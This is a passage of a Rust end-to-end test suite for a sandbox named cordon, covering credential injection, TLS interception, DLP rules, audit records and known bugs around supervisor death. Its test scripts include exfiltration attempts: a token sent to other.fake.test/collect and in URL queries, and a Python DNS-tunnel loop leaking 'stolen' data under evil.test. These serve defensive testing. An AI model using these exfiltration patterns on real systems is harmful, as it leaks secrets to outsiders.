        f.stderr
    );
}

/// KNOWN BUG (reported): `session_start` is written before the sandbox reports what it applied,
/// so its `layers` say `landlock_abi: 0, landlock_enforced: false, no_new_privs: false` even
/// though the result (and the sandbox) have Landlock enforced and no_new_privs set; no later
/// record corrects it. An auditor reading the store is told the sandbox was weaker than it was.
#[test]
fn the_audit_records_the_layers_that_were_really_applied() {
    let Some(net) = enter("the_audit_records_the_layers_that_were_really_applied") else {
        return;
    };
    let r = net
        .cordon()
        .allow(&["api.fake.test:80"])
        .run(&["true"])
        .ok();
    let layers = &r.result["layers"];
    let events = net.audit_events(&r.session());
    let recorded: Vec<&Value> = events
        .iter()
        .filter_map(|e| e["detail"].get("layers"))
        .collect();
    assert!(!recorded.is_empty(), "no layers in the audit: {events:#?}");
    for l in recorded {
        for key in ["landlock_abi", "landlock_enforced", "no_new_privs"] {
            assert_eq!(
                l[key], layers[key],
                "the audit says {key} = {} but the sandbox had {}",
                l[key], layers[key]
            );
        }
    }
}

// ------------------------------------------------------------------------------------------
// Fail closed.

/// Pids of processes whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if let Ok(cmd) = std::fs::read(entry.path().join("cmdline")) {
            if String::from_utf8_lossy(&cmd).contains(marker) && pid != std::process::id() as i32 {
                found.push(pid);
            }
        }
    }
    found
}

/// Whether `pid` is still running (not gone, not a zombie).
fn alive(pid: i32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| {
            s.rsplit_once(')')
                .map(|(_, r)| r.trim_start().starts_with('Z'))
        })
        .is_some_and(|zombie| !zombie)
}

/// KNOWN BUG (reported): the sandbox's init sets `PR_SET_PDEATHSIG` and then changes its uid
/// and gid (`privs::become_sandbox_user`), which clears it; so when the supervisor is killed
/// with SIGKILL the whole sandbox lives on (re-parented to init), unsupervised, with no
/// timeout. It has no network left (the first half of this test passes), but "nothing survives
/// the session" does not hold.
#[test]
fn killing_the_supervisor_leaves_the_sandbox_no_network_and_no_process() {
    let Some(net) = enter("killing_the_supervisor_leaves_the_sandbox_no_network_and_no_process")
    else {
        return;
    };
    let marker = format!(
        "e2e-kill-{}-{}",
        std::process::id(),
        monotonic_secs() as u64
    );
    let result = net.dir.path().join("kill-result.json");
    let mut cmd = cordon_command();
    cmd.arg("run")
        .arg("--result")
        .arg(&result)
        .args(net.cordon().allow(&["api.fake.test:80"]).args)
        .args([
            "--",
            PY,
            "/workspace/probe.py",
            "loop",
            "http://api.fake.test/loop",
            "30",
            &marker,
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null());
    let mut child = cmd.spawn().unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = mpsc::channel::<String>();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    // The loop gets through while the gateway lives (the control).
    let mut lines = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    while lines
        .iter()
        .filter(|l: &&String| l.starts_with("ok "))
        .count()
        < 3
    {
        match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            Ok(l) => lines.push(l),
            Err(_) => {
                let _ = child.kill();
                let _ = child.wait();
                panic!("the loop never got through the gateway: {lines:?}");
            }
        }
    }
    let sandbox: Vec<i32> = processes_with(&marker)
        .into_iter()
        .filter(|&p| p != child.id() as i32)
        .collect();
    assert!(!sandbox.is_empty(), "no sandbox process found");
    let cgroups: BTreeSet<PathBuf> = sandbox
        .iter()
        .filter_map(|p| std::fs::read_to_string(format!("/proc/{p}/cgroup")).ok())
        .flat_map(|t| {
            t.lines()
                .filter_map(|l| {
                    let mut f = l.splitn(3, ':');
                    let (_, ctrl, path) = (f.next()?, f.next()?, f.next()?);
                    let ctrl = ctrl.split(',').next().filter(|c| !c.is_empty())?;
                    path.contains("/cordon/")
                        .then(|| PathBuf::from(format!("/sys/fs/cgroup/{ctrl}{path}")))
                })
                .collect::<Vec<_>>()
        })
        .collect();

    let killed_at = monotonic_secs();
    child.kill().unwrap(); // SIGKILL, by pid
    child.wait().unwrap();
    // Whatever the sandbox prints from now on, until its output closes and its processes are
    // gone, for three seconds at most (a dying process closes its files before it exits).
    let until = Instant::now() + Duration::from_secs(3);
    let mut closed = false;
    while let Some(left) = until.checked_duration_since(Instant::now()) {
        if closed {
            if !sandbox.iter().any(|&p| alive(p)) {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
            continue;
        }
        match rx.recv_timeout(left) {
            Ok(l) => lines.push(l),
            Err(mpsc::RecvTimeoutError::Disconnected) => closed = true,
            Err(mpsc::RecvTimeoutError::Timeout) => break,
        }
    }
    let survivors: Vec<i32> = sandbox.iter().copied().filter(|&p| alive(p)).collect();
    // Clean up after a failure too: the survivors are ours, stopped by pid; then the session's
    // cgroup, which a killed supervisor cannot remove.
    for &p in &survivors {
        // SAFETY: plain kill(2) of a process this test started (found by its unique marker).
        unsafe { libc::kill(p, libc::SIGKILL) };
    }
    let gone_by = Instant::now() + Duration::from_secs(5);
    while sandbox.iter().any(|&p| alive(p)) && Instant::now() < gone_by {
        std::thread::sleep(Duration::from_millis(20));
    }
    for dir in &cgroups {
        let _ = std::fs::remove_dir(dir);
    }

    let late: Vec<&String> = lines
        .iter()
        .filter(|l| {
            l.strip_prefix("ok ")
                .and_then(|t| t.parse::<f64>().ok())
                .is_some_and(|t| t > killed_at)
        })
        .collect();
    assert!(
        late.is_empty(),
        "the sandbox reached the network after the gateway died: {late:?}"
    );
    assert!(
        survivors.is_empty(),
        "sandbox processes {survivors:?} outlived the killed supervisor (output closed: {closed}); \
         last lines: {:?}",
        &lines[lines.len().saturating_sub(3)..]
    );
    assert!(
        closed,
        "the sandbox's output stayed open after the supervisor was killed"
    );
}

// ------------------------------------------------------------------------------------------
// Credentials, TLS interception, rules and DLP (issue 5).

/// A secret value of this test run: random, so a grep for it can only find this run's leaks.
fn test_secret() -> String {
    let mut b = [0u8; 12];
    getrandom_bytes(&mut b);
    let hex: String = b.iter().map(|x| format!("{x:02x}")).collect();
    format!("ghp_e2eSecret{hex}")
}

fn getrandom_bytes(buf: &mut [u8]) {
    let mut f = std::fs::File::open("/dev/urandom").unwrap();
    f.read_exact(buf).unwrap();
}

/// Every file under `dir` that contains `needle` (bytes).
fn files_containing(dir: &Path, needle: &[u8]) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for entry in rd.flatten() {
            let p = entry.path();
            let Ok(ft) = entry.file_type() else { continue };
            if ft.is_dir() {
                stack.push(p);
            } else if ft.is_file() {
                if let Ok(bytes) = std::fs::read(&p) {
                    if bytes.windows(needle.len()).any(|w| w == needle) {
                        found.push(p);
                    }
                }
            }
        }
    }
    found
}

const GH_POLICY: &str = r#"
[network]
allow = ["api.fake.test", "other.fake.test"]
intercept = ["other.fake.test"]

[[network.rules]]
host = "api.fake.test"
methods = ["GET", "POST"]
paths = ["/echo-auth", "/zen", "/upload"]

[[credentials]]
name = "github"
hosts = ["api.fake.test"]
header = "Authorization"
format = "Bearer {secret}"
from_env = "GITHUB_TOKEN"

[response]
terminate_after_blocked = 0
"#;

/// The shell script run inside the sandbox for the credential tests: every client with the
/// placeholder, then placeholders, a secret-shaped value and refused paths sent where they must
/// not go. (`/proc` is searched from the host's side, in
/// `no_sandbox_process_shows_the_secret_in_its_environment_or_command_line`.)
const CRED_SCRIPT: &str = r#"
echo "PLACEHOLDER=$GITHUB_TOKEN"
echo "--- curl proxy"
curl -sS --max-time 10 -D - -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
echo "--- curl transparent"
curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GITHUB_TOKEN" https://api.fake.test/echo-auth; echo
echo "--- python"
/usr/bin/python3 - <<'PY'
import os, urllib.request, requests
h = {"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}
print("urllib", urllib.request.urlopen(urllib.request.Request("https://api.fake.test/echo-auth", headers=h)).read().decode())
r = requests.get("https://api.fake.test/echo-auth", headers=h)
print("requests", r.status_code, r.text)
PY
if [ -x /usr/bin/node ]; then
echo "--- node"
/usr/bin/node -e "fetch('https://api.fake.test/echo-auth',{headers:{Authorization:'Bearer '+process.env.GITHUB_TOKEN}}).then(r=>r.text()).then(t=>console.log('node',t),e=>{console.log('node ERR',e,e.cause);process.exit(3)})"
fi
echo "--- elsewhere"
curl -sS --max-time 10 -o /dev/null -w "other %{http_code}\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://other.fake.test/collect
curl -sS --max-time 10 -o /dev/null -w "url %{http_code}\n" "https://other.fake.test/c?t=$GITHUB_TOKEN"
curl -sS --max-time 10 -o /dev/null -w "body %{http_code}\n" --data-binary "t=$GITHUB_TOKEN" https://api.fake.test/upload
curl -sS --max-time 10 -o /dev/null -w "dlp %{http_code}\n" --data-binary "k=AKIAIOSFODNN7EXAMPLE" https://api.fake.test/upload
curl -sS --max-time 10 -o /dev/null -w "rule %{http_code}\n" https://api.fake.test/admin
curl -sS --max-time 10 -o /dev/null -w "dots %{http_code}\n" --path-as-is "https://api.fake.test/zen/%2e%2e/admin"
echo "--- done"
"#;

/// Runs [`CRED_SCRIPT`] with GITHUB_TOKEN = `secret` in cordon's environment.
fn run_credential_script(net: &FakeNet, secret: &str, upstream_ca: bool) -> Ran {
    let mut run = net.cordon().policy(GH_POLICY).env("GITHUB_TOKEN", secret);
    if upstream_ca {
        let ca = net.dir.path().join("net/ca.pem").display().to_string();
        run = run.args(&["--upstream-ca", &ca]);
    }
    run.run(&["/bin/sh", "-c", CRED_SCRIPT])
}

#[test]
fn credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them() {
    let Some(net) =
        enter("credentials_reach_their_host_through_interception_and_the_sandbox_never_holds_them")
    else {
        return;
    };
    let secret = test_secret();
    let mark = net.mark();
    let r = run_credential_script(&net, &secret, true);
    let out = &r.stdout;
    assert_eq!(r.status, 0, "--- stdout\n{out}\n--- stderr\n{}", r.stderr);

    // The sandbox holds a placeholder, never the value, and every client worked.
    let placeholder = out
        .lines()
        .find_map(|l| l.strip_prefix("PLACEHOLDER="))
        .unwrap()
        .to_string();
    assert!(placeholder.starts_with("cordon-placeholder-"), "{out}");
    assert!(
        !out.contains(&secret),
        "the secret reached the sandbox:\n{out}"
    );
    let redacted = format!("authorization=Bearer {}", "*".repeat(secret.len()));
    let clients = ["urllib ", "requests 200 "];
    for c in clients {
        assert!(out.contains(&format!("{c}{redacted}")), "{c}: {out}");
    }
    assert!(out.matches(&redacted).count() >= 4, "{out}");
    assert!(
        out.to_lowercase()
            .contains(&format!("x-echo-auth: bearer {}", "*".repeat(secret.len()))),
        "{out}"
    );
    if Path::new("/usr/bin/node").exists() {
        assert!(out.contains(&format!("node {redacted}")), "{out}");
    } else {
        eprintln!("SKIPPED node part: /usr/bin/node is not installed");
    }
    // Placeholders going elsewhere, DLP and the rules.
    for line in [
        "other 403",
        "url 403",
        "body 403",
        "dlp 403",
        "rule 403",
        "dots 403",
    ] {
        assert!(out.lines().any(|l| l == line), "missing {line:?}:\n{out}");
    }

    // Upstream received the real value, and only on the bound host, always over TLS.
    let http = net.seen_since(mark, "http");
    let bearer = format!("Bearer {secret}");
    let with_secret: Vec<_> = http
        .iter()
        .filter(|e| e["auth"] == bearer.as_str())
        .collect();
    assert!(with_secret.len() >= 4, "{http:#?}");
    for e in &with_secret {
        assert_eq!(e["host"], "api.fake.test");
        assert_eq!(e["tls"], true);
    }
    assert!(
        http.iter().all(|e| e["host"] != "other.fake.test"),
        "a refused request reached other.fake.test: {http:#?}"
    );
    assert!(
        http.iter()
            .all(|e| e["path"] != "/admin" && e["method"] != "POST"),
        "{http:#?}"
    );

    // The audit names the credential's uses and the alerts, never the value.
    let events = net.audit_events(&r.session());
    let uses: Vec<_> = events
        .iter()
        .filter(|e| {
            e["kind"] == "http_request"
                && e["reason"]
                    .as_str()
                    .is_some_and(|s| s.contains("credential github injected"))
        })
        .collect();
    assert!(uses.len() >= 4, "{events:#?}");
    assert!(uses
        .iter()
        .all(|e| e["path"] == "/echo-auth" && e["method"] == "GET"));
    let alerts: Vec<&str> = events
        .iter()
        .filter(|e| e["kind"] == "alert")
        .filter_map(|e| e["rule"].as_str())
        .collect();
    for rule in [
        "placeholder-leak:placeholder:github",
        "dlp:aws_access_key_id",
        "response-redacted:secret:github",
    ] {
        assert!(alerts.contains(&rule), "no {rule} alert: {alerts:?}");
    }
    let rules: Vec<_> = records(&events, "blocked", Some("api.fake.test"))
        .into_iter()
        .filter(|e| e["rule"] == "http-rules:default-deny")
        .collect();
    assert_eq!(rules.len(), 2, "{events:#?}");

    // Secrecy: the value is nowhere cordon wrote — audit store, workspace, output, errors.
    let needle = secret.as_bytes();
    let audit_files = files_containing(net.dir.path(), needle);
    let leaked: Vec<_> = audit_files
        .iter()
        .filter(|p| !p.starts_with(net.dir.path().join("net")))
        .collect();
    assert!(leaked.is_empty(), "the secret is in {leaked:?}");
    assert!(!r.stderr.contains(&secret), "{}", r.stderr);
    let exported = net.audit(&["events", &r.session(), "--json"]);
    assert!(!exported.stdout.contains(&secret));
}

/// [`GH_POLICY`] with the HTTP/2 origin's port allowed too.
fn h2_policy() -> String {
    let policy = GH_POLICY.replace(
        r#"allow = ["api.fake.test", "#,
        r#"allow = ["api.fake.test", "api.fake.test:8443", "#,
    );
    assert_ne!(policy, GH_POLICY);
    policy
}

/// curl inside the sandbox offering HTTP/2: `:443` is the HTTP/1.1 origin, `:8443` the origin
/// that speaks only HTTP/2. Each line of the `-w` output says which request and protocol.
const H2_SCRIPT: &str = r#"
H="Authorization: Bearer $GITHUB_TOKEN"
W='
%{http_code} proto=%{http_version}
'
echo "--- h1 upstream"; curl --http2 -sS --max-time 10 -D - -w "$W" -H "$H" https://api.fake.test/echo-auth
echo "--- h2 upstream"; curl --http2 -sS --max-time 10 -D - -w "$W" -H "$H" https://api.fake.test:8443/echo-auth
echo "--- h2 transparent"; curl --http2 -sS --max-time 10 --noproxy '*' -D - -w "$W" -H "$H" https://api.fake.test:8443/echo-auth
curl --http2 -sS --max-time 10 -o /dev/null -w "rule %{http_code} %{http_version}
" https://api.fake.test:8443/admin
curl --http2 -sS --max-time 10 -o /dev/null -w "dots %{http_code} %{http_version}
" --path-as-is "https://api.fake.test:8443/echo-auth/%2e%2e/admin"
curl --http2 -sS --max-time 10 -o /dev/null -w "dlp %{http_code} %{http_version}
" --data-binary "k=AKIAIOSFODNN7EXAMPLE" https://api.fake.test:8443/upload
curl --http2 -sS --max-time 10 -o /dev/null -w "post %{http_code} %{http_version}
" --data-binary "hello" https://api.fake.test:8443/upload
echo "--- done"
"#;

#[test]
fn curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path()
{
    let Some(net) = enter(
        "curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path",
    ) else {
        return;
    };
    if net.log().iter().any(|e| e["kind"] == "h2-missing") {
        eprintln!(
            "SKIPPED curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path: \
             fakenet.py has no HTTP/2 origin without python3-h2 (scripts/deps.sh installs it)"
        );
        return;
    }
    // Control: the HTTP/2 origin answers curl --http2 directly, outside cordon.
    let f = net.bare(&[
        "curl",
        "-sS",
        "--max-time",
        "5",
        "--http2",
        "--cacert",
        "ca.pem",
        "--resolve",
        &format!("api.fake.test:8443:{API_IP}"),
        "-w",
        "\nproto=%{http_version}\n",
        "https://api.fake.test:8443/control",
    ]);
    assert!(
        f.stdout.contains("h2 origin ok") && f.stdout.contains("proto=2"),
        "{}{}",
        f.stdout,
        f.stderr
    );

    let secret = test_secret();
    let mark = net.mark();
    let ca = net.dir.path().join("net/ca.pem").display().to_string();
    let r = net
        .cordon()
        .policy(&h2_policy())
        .env("GITHUB_TOKEN", &secret)
        .args(&["--upstream-ca", &ca])
        .run(&["/bin/sh", "-c", H2_SCRIPT]);
    let out = &r.stdout;
    assert_eq!(r.status, 0, "--- stdout\n{out}\n--- stderr\n{}", r.stderr);
    assert!(
        !out.contains(&secret),
        "the secret reached the sandbox:\n{out}"
    );

    // Every request went over HTTP/2 between curl and the gateway, and worked.
    let stars = "*".repeat(secret.len());
    for part in ["h1 upstream", "h2 upstream", "h2 transparent"] {
        let text = out
            .split(&format!("--- {part}\n"))
            .nth(1)
            .and_then(|t| t.split("\n--- ").next())
            .unwrap_or_else(|| panic!("no {part} part:\n{out}"));
        assert!(
            text.contains("\nHTTP/2 200") || text.starts_with("HTTP/2 200"),
            "{part}: {text}"
        );
        assert!(text.contains("200 proto=2"), "{part}: {text}");
        assert!(
            text.contains(&format!("authorization=Bearer {stars}")),
            "{part}: {text}"
        );
        assert!(
            text.contains(&format!("x-echo-auth: Bearer {stars}")),
            "{part}: {text}"
        );
    }
    for line in ["rule 403 2", "dots 403 2", "dlp 403 2", "post 200 2"] {
        assert!(out.lines().any(|l| l == line), "missing {line:?}:\n{out}");
    }

    // Upstream: the real token, over HTTP/2 to the HTTP/2 origin and HTTP/1.1 to the other.
    let http = net.seen_since(mark, "http");
    let bearer = format!("Bearer {secret}");
    let h2: Vec<_> = http.iter().filter(|e| e["proto"] == "h2").collect();
    let h1: Vec<_> = http.iter().filter(|e| e["proto"].is_null()).collect();
    assert_eq!(
        h2.iter().filter(|e| e["auth"] == bearer.as_str()).count(),
        2,
        "{http:#?}"
    );
    assert_eq!(
        h1.iter().filter(|e| e["auth"] == bearer.as_str()).count(),
        1,
        "{http:#?}"
    );
    assert!(
        h2.iter()
            .all(|e| e["path"] == "/echo-auth" || (e["path"] == "/upload" && e["bytes"] == 5)),
        "a refused request reached the origin: {http:#?}"
    );

    // The audit has each request's method and path, the refusals and the alerts.
    let events = net.audit_events(&r.session());
    assert_attributed(&events, &r);
    let uses: Vec<_> = records(&events, "http_request", Some("api.fake.test"))
        .into_iter()
        .filter(|e| e["method"] == "GET" && e["path"] == "/echo-auth")
        .collect();
    assert_eq!(uses.len(), 3, "{events:#?}");
    assert!(uses.iter().all(|e| e["reason"]
        .as_str()
        .is_some_and(|s| s.contains("credential github injected"))));
    assert!(
        uses.iter().filter(|e| e["port"] == 8443).count() == 2,
        "{uses:#?}"
    );
    assert!(records(&events, "http_request", Some("api.fake.test"))
        .iter()
        .any(|e| e["method"] == "POST" && e["path"] == "/upload"));
    let refused: Vec<_> = records(&events, "blocked", Some("api.fake.test"))
        .into_iter()
        .filter(|e| e["rule"] == "http-rules:default-deny")
        .collect();
    assert_eq!(refused.len(), 2, "{events:#?}");
    assert!(refused
        .iter()
        .any(|e| e["method"] == "GET" && e["path"] == "/admin"));
    let alerts: Vec<&str> = records(&events, "alert", None)
        .into_iter()
        .filter_map(|e| e["rule"].as_str())
        .collect();
    for rule in ["dlp:aws_access_key_id", "response-redacted:secret:github"] {
        assert!(alerts.contains(&rule), "no {rule} alert: {alerts:?}");
    }
    assert!(!net
        .audit(&["events", &r.session(), "--json"])
        .stdout
        .contains(&secret));
}

#[test]
fn an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run() {
    let Some(net) =
        enter("an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run")
    else {
        return;
    };
    // Without --upstream-ca, the fake origin's certificate does not verify against the host's
    // trust store: the request is refused (502), never sent, and audited.
    let secret = test_secret();
    let mark = net.mark();
    let r = net
        .cordon()
        .policy(GH_POLICY)
        .env("GITHUB_TOKEN", &secret)
        .run(&curl(&[
            "-H",
            "Authorization: Bearer x",
            "https://api.fake.test/zen",
        ]))
        .ok();
    let (code, reason) = r.curl_code();
    assert_eq!(code, 502, "{}", r.stdout);
    assert!(reason.contains("failed TLS verification"), "{reason}");
    assert!(net.seen_since(mark, "http").is_empty());
    let events = net.audit_events(&r.session());
    assert!(
        records(&events, "blocked", Some("api.fake.test"))
            .iter()
            .any(|e| e["rule"] == "upstream-tls"),
        "{events:#?}"
    );

    // A secret that cannot be read fails the run before anything starts, without a value.
    let r = net.cordon().policy(GH_POLICY).run(&["true"]);
    assert_eq!(r.status, 125, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("credential github: environment variable GITHUB_TOKEN is not set"),
        "{}",
        r.stderr
    );
}

/// Pids of `root` and every process below it (from /proc/*/stat).
fn descendants(root: u32) -> Vec<u32> {
    let mut parent = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        // The command name may hold spaces and parentheses: the ppid follows the last ')'.
        let after = &stat[stat.rfind(')').unwrap_or(0) + 1..];
        if let Some(ppid) = after
            .split_whitespace()
            .nth(1)
            .and_then(|p| p.parse::<u32>().ok())
        {
            parent.push((pid, ppid));
        }
    }
    let mut out = vec![root];
    let mut i = 0;
    while i < out.len() {
        let p = out[i];
        out.extend(parent.iter().filter(|(_, pp)| *pp == p).map(|(c, _)| *c));
        i += 1;
    }
    out
}

#[test]
fn no_sandbox_process_shows_the_secret_in_its_environment_or_command_line() {
    let Some(net) = enter("no_sandbox_process_shows_the_secret_in_its_environment_or_command_line")
    else {
        return;
    };
    let secret = test_secret();
    let ca = net.dir.path().join("net/ca.pem").display().to_string();
    let child = net
        .cordon()
        .policy(GH_POLICY)
        .env("GITHUB_TOKEN", &secret)
        .args(&["--upstream-ca", &ca])
        .spawn(&[
            "/bin/sh",
            "-c",
            "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.fake.test/echo-auth; echo; echo READY; exec sleep 30",
        ]);
    let root = child.id();
    // Wait until the sandbox is up (its sleep exists), then read every process of the run —
    // the supervisor, the sandbox's init and the command — from the host's side, as root sees
    // them (more than the sandbox itself could read).
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut checked = 0;
    while Instant::now() < deadline {
        let pids = descendants(root);
        let sleeping = pids.iter().any(|p| {
            std::fs::read(format!("/proc/{p}/cmdline")).is_ok_and(|c| c.starts_with(b"sleep\0"))
        });
        if sleeping {
            for p in &pids {
                for what in ["environ", "cmdline"] {
                    if let Ok(bytes) = std::fs::read(format!("/proc/{p}/{what}")) {
                        checked += 1;
                        assert!(
                            !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                            "the secret is in /proc/{p}/{what} ({:?})",
                            std::fs::read_to_string(format!("/proc/{p}/comm")).unwrap_or_default()
                        );
                    }
                }
            }
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    // The run is ended by its own pid (kill sends SIGKILL to the supervisor; the sandbox dies
    // with it through the parent-death signal).
    let mut child = child;
    let _ = child.kill();
    let f = finish(child, Duration::from_secs(30), "cordon run");
    assert!(checked >= 6, "the sandbox never came up: {}", f.stderr);
    assert!(
        f.stdout.contains("authorization=Bearer ****"),
        "{}",
        f.stdout
    );
    assert!(!f.stdout.contains(&secret) && !f.stderr.contains(&secret));
}

// ------------------------------------------------------------------------------------------
// Detection, response and alerts (issue 4).

/// A webhook receiver on the test namespace's loopback: every POST body, parsed.
struct Webhook {
    url: String,
    rx: mpsc::Receiver<Value>,
}

impl Webhook {
    fn start() -> Webhook {
        use std::io::Write;
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/alerts", l.local_addr().unwrap());
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { return };
                let _ = s.set_read_timeout(Some(Duration::from_secs(5)));
                let mut got = Vec::new();
                let mut buf = [0u8; 4096];
                let body = loop {
                    let Ok(n) = s.read(&mut buf) else { break None };
                    if n == 0 {
                        break None;
                    }
                    got.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&got).into_owned();
                    let Some((head, body)) = text.split_once("\r\n\r\n") else {
                        continue;
                    };
                    let len: usize = head
                        .lines()
                        .find_map(|l| l.strip_prefix("Content-Length: "))
                        .and_then(|v| v.trim().parse().ok())
                        .unwrap_or(0);
                    if body.len() >= len {
                        assert!(head.starts_with("POST /alerts HTTP/1.1"), "{head}");
                        break Some(body[..len].to_string());
                    }
                };
                let _ = s.write_all(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n");
                if let Some(b) = body {
                    let _ = tx.send(serde_json::from_str(&b).unwrap_or(Value::Null));
                }
            }
        });
        Webhook { url, rx }
    }

    fn policy(&self) -> String {
        format!("[alerts]\nwebhook = \"{}\"\ntimeout = \"2s\"\n", self.url)
    }

    /// Every alert received within `wait` of the first.
    fn received(&self, wait: Duration) -> Vec<Value> {
        let mut all = Vec::new();
        if let Ok(v) = self.rx.recv_timeout(Duration::from_secs(5)) {
            all.push(v);
            while let Ok(v) = self.rx.recv_timeout(wait) {
                all.push(v);
            }
        }
        all
    }
}

/// The checks every stopping detection shares: exit 137, the reason in the result, on stderr
/// and in the session's end record, one `alert` audit event for `rule`, one webhook POST with
/// the session's attribution. Returns the webhook's payload.
fn assert_terminated_by(
    net: &FakeNet,
    r: &Ran,
    hook: &Webhook,
    rule: &str,
    reason_start: &str,
) -> Value {
    let session = r.session();
    assert_eq!(r.status, 137, "{}\n{}", r.stdout, r.stderr);
    assert_eq!(r.result["exit_status"], 137);
    let reason = r.result["terminated"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(reason.starts_with(reason_start), "{reason:?}\n{}", r.stderr);
    let line = format!("cordon: session {session} terminated: {reason}");
    assert!(
        r.stderr.lines().any(|l| l == line),
        "no {line:?} in\n{}",
        r.stderr
    );
    assert!(
        r.stderr.lines().any(|l| l.starts_with(&format!(
            "cordon: alert: session {session}: {rule}: {reason} (response: terminate)"
        ))),
        "{}",
        r.stderr
    );
    let fired = r.result["alerts"].as_array().unwrap();
    assert_eq!(fired.len(), 1, "{}", r.result);
    assert_eq!(fired[0]["rule"], rule);
    assert_eq!(fired[0]["response"], "terminate");
    let events = net.audit_events(&session);
    assert_attributed(&events, r);
    let alerts = records(&events, "alert", None);
    assert_eq!(alerts.len(), 1, "{events:#?}");
    assert_eq!(alerts[0]["rule"], format!("detect.{rule}"));
    assert_eq!(alerts[0]["reason"], reason.as_str());
    assert_eq!(alerts[0]["detail"]["response"], "terminate");
    let end = records(&events, "session_end", None);
    assert_eq!(end[0]["detail"]["terminated"], reason.as_str());
    let posted = hook.received(Duration::from_millis(300));
    assert_eq!(posted.len(), 1, "{posted:#?}");
    let p = &posted[0];
    assert_eq!(p["session"], session.as_str());
    assert_eq!(p["user"], r.result["user"]);
    assert_eq!(p["code_sha256"], r.result["code_sha256"]);
    assert_eq!(p["rule"], rule);
    assert_eq!(p["summary"], reason.as_str());
    assert!(p["evidence"].is_object(), "{p}");
    p.clone()
}

/// A DNS-tunnel loop: one lookup per chunk of "stolen" data under evil.test, each name new.
const TUNNEL: &str = r#"
import socket, sys, time
data = b"AKIA-secret-material-" * 200
for i in range(0, len(data), 10):
    label = data[i:i+10].hex()
    try:
        socket.getaddrinfo(f"{label}.{i}.evil.test", 80)
    except OSError:
        pass
    print(i // 10, flush=True)
print("survived", flush=True)
"#;

#[test]
fn a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert() {
    let Some(net) = enter("a_dns_tunnel_loop_is_stopped_at_the_default_thresholds_with_an_alert")
    else {
        return;
    };
    let hook = Webhook::start();
    let mark = net.mark();
    let r = net
        .cordon()
        .policy(&hook.policy())
        .allow(&["api.fake.test:80"])
        .run(&[PY, "-c", TUNNEL]);
    assert_terminated_by(
        &net,
        &r,
        &hook,
        "dns_tunnel",
        "dns tunnel suspected (20 distinct names under evil.test in 10s)",
    );
    // Stopped within the window: 20 names, then the lookups made while the supervisor woke and
    // killed the sandbox (a few milliseconds; more on a loaded machine).
    let done = codes(&r.stdout).len();
    assert!(done < 150, "{done} lookups before the kill:\n{}", r.stdout);
    assert!(!r.stdout.contains("survived"));
    let fired = &r.result["alerts"][0];
    assert_eq!(fired["signal"], "distinct_names");
    assert_eq!(fired["severity"], "high");
    assert_eq!(fired["evidence"]["domain"], "evil.test");
    assert_eq!(fired["evidence"]["distinct_names"], 20);
    // The upstream DNS server never heard of any of it.
    assert!(net.seen_since(mark, "dns").is_empty());
}

#[test]
fn a_burst_of_blocked_connects_ends_the_session_with_an_alert() {
    let Some(net) = enter("a_burst_of_blocked_connects_ends_the_session_with_an_alert") else {
        return;
    };
    let hook = Webhook::start();
    // Direct connects to a port no policy allows: captured, refused, counted.
    let script = format!(
        "import socket\nfor i in range(500):\n    s = socket.socket()\n    s.settimeout(3)\n    \
         try:\n        s.connect(('{API_IP}', 8080)); s.send(b'x'); s.recv(1)\n    except OSError:\n        pass\n    \
         s.close()\n    print(i, flush=True)\nprint('survived')\n"
    );
    let r = net
        .cordon()
        .policy(&hook.policy())
        .allow(&["api.fake.test:80"])
        .run(&[PY, "-c", &script]);
    assert_terminated_by(
        &net,
        &r,
        &hook,
        "blocked",
        "5 blocked network attempts in 1m (detect.blocked.threshold = 5)",
    );
    // Five refusals, then the attempts made while the supervisor woke and killed the sandbox.
    assert!(codes(&r.stdout).len() < 250, "{}", r.stdout);
}

#[test]
fn a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running() {
    let Some(net) = enter("a_slow_drip_over_an_allowed_host_is_blocked_and_the_code_keeps_running")
    else {
        return;
    };
